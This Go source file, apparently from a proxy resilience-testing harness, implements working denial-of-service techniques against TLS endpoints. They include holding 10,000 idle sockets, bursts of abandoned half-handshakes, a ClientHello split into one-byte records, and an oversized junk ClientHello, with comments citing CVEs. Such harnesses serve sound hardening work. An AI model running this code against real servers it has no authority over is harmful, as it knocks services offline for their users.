package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"slices"
	"time"
)

// idleSockets are more than a proxy would have threads for.
const idleSockets = 10000

// handshakes are the attacks before there is a request, and by TLS itself.
func handshakes() []Attack {
	return []Attack{
		{Name: "sockets that never send", run: func(_ context.Context, a *Attacker) {
			if err := a.occupy(idleSockets); err != nil {
				a.trouble(err)
			}
		}},
		{Name: "TLS handshakes", run: func(_ context.Context, a *Attacker) {
			a.secure(func(raw net.Conn) net.Conn { return raw })
		}},
		{Name: "half of TLS handshakes", run: func(_ context.Context, a *Attacker) { a.half() }},
		// CVE-2026-32305 was a proxy that took such a client for another one.
		{Name: "ClientHello in records of one byte", run: func(_ context.Context, a *Attacker) {
			a.secure(func(raw net.Conn) net.Conn { return &splitter{Conn: raw} })
		}},
		{Name: "ClientHello of 64 KiB", Within: cutOff, run: func(_ context.Context, a *Attacker) { a.hugeHello() }},
		// CVE-2026-32283 and CVE-2026-56862.
		{Name: "KeyUpdate flood", Within: cutOff, run: func(_ context.Context, a *Attacker) { a.keyUpdates() }},
	}
}

// occupy opens connections to both ports, and keeps them open for a while.
func (a *Attacker) occupy(count int) error {
	conns := make([]net.Conn, 0, count)
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	for i := range count {
		address := a.Plain
		if i%2 == 1 {
			address = a.TLS
		}
		conn, err := net.Dial("tcp", address)
		if err != nil {
			return fmt.Errorf("connection %d: %w", i, err)
		}
		conns = append(conns, conn)
		a.opened(1, 0)
	}
	time.Sleep(hold)
	return nil
}

// secure makes one handshake through what wrap returns. A proxy may refuse it.
func (a *Attacker) secure(wrap func(net.Conn) net.Conn) {
	raw, err := net.Dial("tcp", a.TLS)
	if err != nil {
		a.trouble(err)
		return
	}
	defer raw.Close()
	a.opened(1, 0)
	if err := raw.SetDeadline(time.Now().Add(a.Patience)); err != nil {
		return
	}
	// Whether it succeeds is the proxy's choice: it is the costs that count.
	_ = tls.Client(wrap(raw), clientTLS()).Handshake()
}

// half sends a ClientHello and leaves when the answer begins: the proxy has
// signed for nothing then.
func (a *Attacker) half() {
	hello, err := clientHello()
	if err != nil {
		a.trouble(err)
		return
	}
	for range burstSize {
		conn, err := net.Dial("tcp", a.TLS)
		if err != nil {
			a.trouble(err)
			return
		}
		a.opened(1, 0)
		_, err = conn.Write(hello)
		if err == nil {
			// A proxy that does not answer has refused, which is as well.
			_ = conn.SetReadDeadline(time.Now().Add(time.Second))
			_, _ = conn.Read(make([]byte, 1))
		}
		conn.Close()
	}
}

// clientHello is the first record of a client's handshake.
func clientHello() ([]byte, error) {
	client, server := net.Pipe()
	defer server.Close()
	go func() {
		defer client.Close()
		// The handshake ends when the other side is closed.
		_ = tls.Client(client, clientTLS()).Handshake()
	}()
	header := make([]byte, 5)
	if _, err := io.ReadFull(server, header); err != nil {
		return nil, err
	}
	body := make([]byte, int(header[3])<<8|int(header[4]))
	_, err := io.ReadFull(server, body)
	return slices.Concat(header, body), err
}

// splitter sends the first record as many, of one byte each.
type splitter struct {
	net.Conn
	begun bool
}

func (s *splitter) Write(p []byte) (int, error) {
	if s.begun || len(p) < 5 {
		return s.Conn.Write(p)
	}
	s.begun = true
	for _, b := range p[5:] {
		if _, err := s.Conn.Write([]byte{p[0], p[1], p[2], 0, 1, b}); err != nil {
			return 0, err
		}
	}
	return len(p), nil
}

// hugeHello sends a ClientHello of 64 KiB that means nothing.
func (a *Attacker) hugeHello() {
	conn, err := net.Dial("tcp", a.TLS)
	if err != nil {
		a.trouble(err)
		return
	}
	defer conn.Close()
	a.opened(1, 0)
	start := time.Now()
	record := append([]byte{22, 3, 1, 0x40, 0}, make([]byte, 1<<14)...)
	copy(record[5:], []byte{1, 0, 0xff, 0xfc, 3, 3})
	for range 4 {
		// The proxy may have closed by then, which reading shows.
		if _, err = conn.Write(record); err != nil {
			break
		}
		clear(record[5:])
	}
	over := closes(conn, a.Patience)
	a.closed(time.Since(start), over)
}
